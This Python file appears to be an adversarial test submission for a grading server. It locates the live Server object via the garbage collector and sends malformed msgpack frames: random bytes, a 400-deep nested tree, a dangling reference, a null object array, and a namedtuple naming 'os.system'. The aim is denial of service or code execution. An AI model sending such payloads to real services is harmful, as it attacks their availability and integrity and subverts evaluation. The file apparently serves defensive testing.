# Tries: to answer with bytes, trees and references that nobody sends.
# Earns: nothing
# Goal: denial

# %%
import gc
import os
import struct

import msgpack

server = next(found for found in gc.get_objects() if type(found).__name__ == "Server")


def say(tree):
    packed = tree if isinstance(tree, bytes) else msgpack.packb(tree)
    server.channel.sock.sendall(struct.pack("!I", len(packed)) + packed)


# %% solution="psi"
def psi(p, q):
    say(os.urandom(1000))


# %% solution="errors"
def error_rate(y, predicted):
    tree = 1
    for _ in range(400):
        tree = ["list", tree]
    say(["list", "value", tree])


# %% solution="describe"
def describe(frame):
    say(["list", "value", ["ref", "yours", 77]])


# %% solution="model"
class Model:
    def fit(self, X, y):
        say(["list", "value", ["array", "|O", [1], b"\0" * 8]])

    def __len__(self):
        say(["list", "value", ["namedtuple", "os.system", ["x"], ["true"]]])
